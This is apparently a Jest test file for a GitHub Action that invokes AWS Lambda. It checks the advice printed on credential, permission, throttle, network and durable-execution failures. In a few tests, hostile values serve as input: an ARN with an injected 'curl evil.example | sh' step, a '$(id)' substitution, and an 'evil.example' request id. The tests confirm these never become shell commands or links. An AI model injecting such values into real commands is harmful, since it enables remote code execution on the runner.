import { describe, expect, test } from '@jest/globals';
import { VERDICTS_BY_NAME } from '../../../src/lambda/failures.ts';
import type { Failure } from '../../../src/lambda/invocation.ts';
import { adviseOn, type JobFacts } from '../../../src/outcome/advice.ts';
import { failure, invocation, REQUEST_ID } from './factory.ts';

const PUSH: JobFacts = { eventName: 'push', hasOidc: false };
const FORK = 'A pull request from a fork has neither secrets nor an OIDC token.';
const PERMISSION = 'permissions:\n  id-token: write\n';
const SENT_AT = new Date('2026-01-02T03:04:05.678Z');

const advise = (given: Partial<Failure>, job: JobFacts = PUSH): string =>
  adviseOn({ failure: failure(given), invocation: invocation(), region: 'eu-west-1', job });

/** Advice on a failure without an answer, so without a status. */
function adviseUnanswered(given: Partial<Failure>): string {
  const { statusCode: _, ...unanswered } = failure(given);
  return adviseOn({ failure: unanswered, invocation: invocation(), region: 'eu-west-1', job: PUSH });
}

describe('advice', () => {
  test.each(Object.entries(VERDICTS_BY_NAME))('is a sentence or more on %s', (name, { proof }) => {
    expect(advise({ name, proof, requestId: REQUEST_ID })).toMatch(/^[A-Z][\s\S]{20,}$/);
  });

  test.each(['may_have_run', 'ran'] as const)(
    'after a failure that proves %s promises no link where there is none',
    (proof) => {
      const nowhere = { failure: failure({ proof }), invocation: invocation(), region: undefined, job: PUSH };
      expect(adviseOn(nowhere)).not.toMatch(/:$/m);
    },
  );

  test.each([
    ['RegionMissing', 'Set the input region, or AWS_REGION'],
    ['AccessDeniedException', 'function:NAME and function:NAME:*'],
    ['ExpiredTokenException', 'role-duration-seconds'],
    ['UnrecognizedClientException', 'does not know this access key'],
    ['InvalidSignatureException', 'AWS_SECRET_ACCESS_KEY'],
    ['ResourceNotFoundException', 'Check the name, the qualifier, the region and the account'],
    ['ResourceConflictException', 'is being created or updated'],
    ['CodeArtifactUserPendingException', 'waking up'],
    ['KMSDisabledException', 'KMS key'],
    ['SubnetIPAddressLimitReachedException', 'free addresses'],
    ['DurableExecutionAlreadyStartedException', 'another payload'],
    ['HTTP 407', 'http://user:password@host:port'],
  ])('on %s names what to do', (name, essential) => {
    expect(advise({ name })).toContain(essential);
  });

  test.each([
    ['EMFILE', 'ulimit -n'],
    ['ENFILE', 'ulimit -n'],
    ['ENOBUFS', 'memory'],
    ['ENOMEM', 'memory'],
  ])('on a runner that has none left for a connection, %s, says so', (name, word) => {
    const advice = advise({ name, proof: 'never_ran' });
    expect(advice).toContain(word);
    expect(advice).toContain('max_concurrency');
  });

  test('on a denial tells a missing allow from an explicit deny', () => {
    const name = 'AccessDeniedException';
    const deny = advise({
      name,
      message: 'not authorized … with an explicit deny in a service control policy',
    });
    expect(deny).toContain('Change the deny');
    expect(deny).not.toContain('Allow lambda:InvokeFunction');
    expect(advise({ name, message: 'because no identity-based policy allows it' })).toContain(
      'Allow lambda:InvokeFunction',
    );
  });

  test.each([
    ['ReservedFunctionConcurrentInvocationLimitExceeded', 'The function’s own reserved concurrency'],
    ['ReservedFunctionInvocationRateLimitExceeded', 'The function’s own reserved concurrency'],
    ['ConcurrentInvocationLimitExceeded', 'The account’s concurrency'],
    ['CallerRateLimitExceeded', 'The account’s concurrency'],
    [undefined, 'The account’s concurrency'],
  ])('on a throttle by %s says whose limit it is', (reason, essential) => {
    const name = 'TooManyRequestsException';
    expect(advise({ name, ...(reason !== undefined && { reason }) })).toContain(essential);
  });

  test('on an unknown refusal points to its message', () => {
    expect(advise({ name: 'NewException', statusCode: 400 })).toBe(
      'Mend what the message says and run the job again.',
    );
  });

  test('after a failure that may have run warns of running it twice, and links to its log', () => {
    const advice = advise({ name: 'NewException', proof: 'may_have_run', requestId: REQUEST_ID });
    expect(advice).toMatch(
      new RegExp(`^Look at the function’s log before you run this again: https://\\S+${REQUEST_ID}\\S+\\n`),
    );
    expect(advice).toContain('retry: idempotent');
  });

  test('after a failure that may have run links to the time when it can have run, where it has no id', () => {
    expect(advise({ name: 'ECONNRESET', proof: 'may_have_run', sentAt: SENT_AT })).toContain(
      '/log-events$3Fstart$3D1767322985678$26end$3D1767323945678\n',
    );
  });

  test('does not make a link of an id that is not Lambda’s', () => {
    expect(advise({ proof: 'may_have_run', requestId: 'https://evil.example' })).not.toContain('evil');
  });

  test('after a failure of the function’s own code says that it ran', () => {
    const advice = advise({ name: 'EFSIOException', proof: 'ran', requestId: REQUEST_ID });
    expect(advice).toMatch(/^The function’s own code ran\. Look at its log: https:\S+$/);
    expect(advice).not.toContain('idempotent');
  });

  test('on a connection that never stood names what decides where it goes', () => {
    expect(adviseUnanswered({ name: 'ECONNREFUSED' })).toBe(
      'Check the region, AWS_ENDPOINT_URL_LAMBDA and the network of the runner.',
    );
    expect(adviseUnanswered({ name: 'ECONNREFUSED', throughProxy: true })).toBe(
      'Check the proxy of HTTPS_PROXY or HTTP_PROXY; NO_PROXY leaves it out.',
    );
  });

  test.each(['constructor', 'toString'])('on an error that is called %s is a text', (name) => {
    expect(advise({ name })).toBe('Mend what the message says and run the job again.');
  });
});

describe.each(['CredentialsProviderError', 'TokenProviderError', 'MissingAuthenticationTokenException'])(
  'advice on %s',
  (name) => {
    test.each(['push', 'pull_request'])('names the step that finds credentials on %s', (eventName) => {
      for (const hasOidc of [true, false]) {
        expect(advise({ name }, { eventName, hasOidc })).toContain(
          'Add a step with aws-actions/configure-aws-credentials and role-to-assume before this one',
        );
      }
    });

    test('shows the missing permission only where it is missing', () => {
      expect(advise({ name }, { eventName: 'push', hasOidc: false })).toContain(PERMISSION);
      expect(advise({ name }, { eventName: 'push', hasOidc: true })).not.toContain('id-token');
    });

    test.each([true, false])('explains forks on a pull request (OIDC token: %s)', (hasOidc) => {
      expect(advise({ name }, { eventName: 'pull_request', hasOidc })).toContain(FORK);
    });

    test.each(['push', 'workflow_dispatch', 'schedule', 'pull_request_target'])(
      'does not speak of forks on %s, which has the secrets of the repository',
      (eventName) => {
        for (const hasOidc of [true, false]) {
          expect(advise({ name }, { eventName, hasOidc })).not.toContain('fork');
        }
      },
    );
  },
);

describe('advice on a denial of something beside invoking', () => {
  const ARN = 'arn:aws:lambda:eu-west-1:123456789012:function:my-function';
  const denied = (action: string, resource = ARN): string =>
    `User: arn:aws:sts::123456789012:assumed-role/deploy/x is not authorized to perform: ${action} on resource: ${resource} because no identity-based policy allows the ${action} action`;
  const statement = (...Action: string[]): string =>
    JSON.stringify({ Effect: 'Allow', Action, Resource: [ARN, `${ARN}:*`] });

  test('has the statement to add', () => {
    const message = denied('lambda:GetFunctionConfiguration', `${ARN}:live`);
    expect(advise({ name: 'AccessDeniedException', message }).split('\n')).toEqual([
      'Allow lambda:GetFunctionConfiguration on the function for the role: add this statement to its policy:',
      statement('lambda:GetFunctionConfiguration'),
    ]);
  });

  test('names the action where the message names no function', () => {
    const message = denied('lambda:GetFunctionConfiguration', 'x');
    expect(advise({ name: 'AccessDeniedException', message })).toBe(
      'Allow lambda:GetFunctionConfiguration on the function for the role.',
    );
  });

  test('of following has both actions, on the function of the execution', () => {
    const durableExecutionArn = `${ARN}:1/durable-execution/order-7/id`;
    const message = denied('lambda:GetDurableExecution', durableExecutionArn);
    const advice = advise({ name: 'AccessDeniedException', message, proof: 'ran', durableExecutionArn });
    expect(advice.split('\n')[1]).toBe(
      statement('lambda:GetDurableExecution', 'lambda:GetDurableExecutionHistory'),
    );
  });
});

describe('advice on a durable function', () => {
  test.each([
    ['You cannot invoke a durable function using an unqualified ARN.', 'its version or alias'],
    [
      'You cannot synchronously invoke a durable function with an executionTimeout greater than 15 minutes.',
      'invocation_type: Event',
    ],
  ])('that was refused with %j', (message, essential) => {
    expect(advise({ name: 'InvalidParameterValueException', message })).toContain(essential);
  });

  const EXECUTION =
    'arn:aws:lambda:eu-west-1:123456789012:function:my-function:$LATEST/durable-execution/a/b';

  test('has commands with the ARN in quotes, since a shell would take $LATEST for a variable', () => {
    const advice = advise({ proof: 'ran', name: 'DeadlineExceeded', durableExecutionArn: EXECUTION });
    expect(advice).toContain(`aws lambda get-durable-execution --durable-execution-arn '${EXECUTION}'\n`);
    expect(advice).toMatch(/stop-durable-execution .* '[^']+'$/);
  });

  test.each([
    `${EXECUTION}'; curl evil.example | sh; '`,
    `${EXECUTION}\n`,
    `${EXECUTION} $(id)`,
    'arn:durable',
    '',
  ])('has no command with an ARN that is not of the form of AWS: %j', (durableExecutionArn) => {
    const advice = advise({ proof: 'ran', name: 'DeadlineExceeded', durableExecutionArn });
    expect(advice).not.toContain('aws lambda');
    expect(advice).not.toContain('durable-execution-arn');
    expect(advice).toContain('See how the execution ends in the Lambda console.');
  });

  test('that goes on by itself says how to join it', () => {
    const durableExecutionArn = 'arn:durable';
    const lost = failure({ proof: 'ran', name: 'DeadlineExceeded', durableExecutionArn });
    const named = invocation({ durableExecutionName: 'order-7' });
    const the = { failure: lost, region: 'eu-west-1', job: PUSH };
    expect(adviseOn({ ...the, invocation: named })).toContain(
      'Run this step again with the same durable_execution_name and payload to join it.',
    );
    expect(adviseOn({ ...the, invocation: invocation() })).toContain('With a durable_execution_name');
  });
});
